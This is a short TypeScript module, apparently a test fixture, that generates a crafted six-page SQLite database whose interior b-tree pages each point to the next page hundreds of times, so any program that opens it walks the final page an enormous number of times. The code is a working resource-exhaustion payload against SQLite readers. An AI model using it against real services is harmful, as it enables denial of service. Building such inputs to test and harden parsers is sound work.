// A crafted SQLite database of six pages: in the tree of its schema every interior page names the
// next one as each of its hundreds of children, so that whoever opens it walks the last page
// hundreds to the power of four times.

const pageBytes = 4096;

/** The bytes of the database. */
export function toEndlessDatabase(): Buffer {
  const first = interiorPage(2, 100);
  fileHeader().copy(first);
  const pages = [first, interiorPage(3), interiorPage(4), interiorPage(5), leafPage(), leafPage()];
  return Buffer.concat(pages);
}

function fileHeader(): Buffer {
  const header = Buffer.alloc(100);
  header.write('SQLite format 3\0', 'latin1');
  header.writeUInt16BE(pageBytes, 16);
  // Rollback journal, no reserved space, the fixed payload fractions.
  Buffer.from([1, 1, 0, 64, 32, 32]).copy(header, 18);
  const fields = { 24: 1, 28: 6, 40: 1, 44: 4, 56: 1, 92: 1, 96: 3_040_000 };
  for (const [offset, value] of Object.entries(fields)) header.writeUInt32BE(value, Number(offset));
  return header;
}

function interiorPage(child: number, start = 0): Buffer {
  const page = Buffer.alloc(pageBytes);
  const count = Math.floor((pageBytes - start - 12) / 7);
  let place = pageBytes;
  for (let cell = 0; cell < count; cell += 1) {
    place -= 5;
    page.writeUInt32BE(child, place);
    page[place + 4] = 1;
    page.writeUInt16BE(place, start + 12 + 2 * cell);
  }
  page[start] = 5;
  page.writeUInt16BE(count, start + 3);
  page.writeUInt16BE(place, start + 5);
  page.writeUInt32BE(child, start + 8);
  return page;
}

/** One row of the schema: the table "x", whose tree is page 5. */
function leafPage(): Buffer {
  const texts = ['table', 'x', 'x'].map((text) => Buffer.from(text));
  const sql = Buffer.from('CREATE TABLE x(a)');
  const types = [...texts.map(toTextType), 1, toTextType(sql)];
  const row = Buffer.concat([
    Buffer.from([types.length + 1, ...types]),
    ...texts,
    Buffer.from([5]),
    sql,
  ]);
  const page = Buffer.alloc(pageBytes);
  const place = pageBytes - row.length - 2;
  Buffer.concat([Buffer.from([row.length, 1]), row]).copy(page, place);
  page[0] = 13;
  page.writeUInt16BE(1, 3);
  page.writeUInt16BE(place, 5);
  page.writeUInt16BE(place, 8);
  return page;
}

function toTextType(text: Buffer): number {
  return 13 + 2 * text.length;
}
